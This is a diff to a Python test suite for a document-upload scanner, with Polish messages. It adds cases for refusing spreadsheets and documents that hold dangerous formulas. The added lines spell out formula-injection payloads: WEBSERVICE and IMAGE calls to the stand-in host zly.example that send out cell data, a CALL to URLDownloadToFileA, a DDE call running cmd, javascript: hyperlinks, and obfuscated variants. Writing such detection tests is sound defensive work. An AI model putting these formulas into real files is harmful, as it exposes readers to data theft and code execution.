@@ -16,6 +16,7 @@ MACROS = "W tym pliku są makra"
 PROGRAM = "jest program"
 FILES_INSIDE = "schowane inne pliki"
 EXTERNAL = "z innego komputera"
+FORMULA = "formuła, która u czytelnika pobiera"
 APPENDED = "ma coś dopisane"
 INVALID = "To nie jest prawidłowy plik"
 
@@ -52,6 +53,15 @@ def instruction(text):
 def field(*instructions):
     body = "".join(map(instruction, instructions))
     return build_docx(f"<w:p>{BEGIN}{body}{SEPARATE}<w:r><w:t>tekst</w:t></w:r>{END}</w:p>")
+
+
+def formula(text):
+    return build_xlsx(f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>')
+
+
+def workbook(content):
+    """Return an XLSX file with this content of the main part."""
+    return build_xlsx(parts={"xl/workbook.xml": f"<workbook>{content}</workbook>"})
 
 
 def chart(workbook, source="word/charts/chart1.xml"):
@@ -167,6 +177,59 @@ REFUSED = {
             parts={"xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>'}
         ),
         EXTERNAL,
+    ),
+    "workbook of a server": (
+        "xlsx",
+        build_xlsx(relationships=[("externalLink", "https://zly.example/a.xlsx", "External")]),
+        EXTERNAL,
+    ),
+    # Formulas
+    **{
+        f"formula {text}": ("xlsx", formula(text), FORMULA)
+        for text in (
+            '_xlfn.WEBSERVICE("https://zly.example/?"&amp;A1)',
+            'IF(A1,_xlfn.IMAGE ( "https://zly.example/a.png"),"")',
+            "webservice(A1)",
+            "WEB<![CDATA[SERVICE]]>(A1)",
+            "&#87;EBSERVICE(A1)",
+            "_xlfn.STOCKHISTORY(A1,1)",
+            '"a""b"&amp;_xlfn.IMAGE(A1)',
+        )
+    },
+    **{
+        f"formula {text}": ("xlsx", formula(text), PROGRAM)
+        for text in (
+            'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
+            'RTD("zly.server",,"x")',
+            "_xlfn._xlws.PY(0,1)",
+            'DDE("cmd";"/c calc";"x")',
+            'HYPERLINK("javascript:alert(1)","x")',
+        )
+    },
+    "formula in a defined name": (
+        "xlsx",
+        workbook(
+            '<definedNames><definedName name="a">_xlfn.WEBSERVICE(Arkusz1!A1)</definedName></definedNames>'
+        ),
+        FORMULA,
+    ),
+    "formula in a table": (
+        "xlsx",
+        build_xlsx(
+            parts={
+                "xl/tables/t.xml": "<table><calculatedColumnFormula>IMAGE(A1)</calculatedColumnFormula></table>"
+            }
+        ),
+        FORMULA,
+    ),
+    "formula of the data of a chart": ("docx", chart(formula("_xlfn.WEBSERVICE(A1)")), FORMULA),
+    "formula of a spreadsheet in ODT": (
+        "odt",
+        build_odt(
+            '<text:p><draw:object xlink:href="./Object 1"/></text:p>',
+            parts={"Object 1/content.xml": declare('<text:x text:formula="of:=WEBSERVICE([.A1])"/>')},
+        ),
+        FORMULA,
     ),
     "ODT picture of a server": (
         "odt",
@@ -425,6 +488,22 @@ TAKEN = {
                 )
             }
         ),
+    ),
+    **{
+        f"formula {text}": ("xlsx", formula(text))
+        for text in (
+            "SUM(A1:A9)/2",
+            '"Funkcja WEBSERVICE(adres)"',
+            "'CALL (2026)'!A1+'IMAGE (1)'!B2",
+            'HYPERLINK("https://rumia.eu/","Rumia")',
+            "MYIMAGE(A1)+RECALL(2)",
+            "IMAGES+Call*2",
+            'COPY("x")',
+        )
+    },
+    "text that looks like a formula": (
+        "xlsx",
+        build_xlsx('<row><c t="inlineStr"><is><t>=WEBSERVICE(A1)</t></is></c></row>'),
     ),
     "fields": ("docx", field(" PAGEREF _Toc1 \\h ", " ")),
     "fields in a table of contents": (
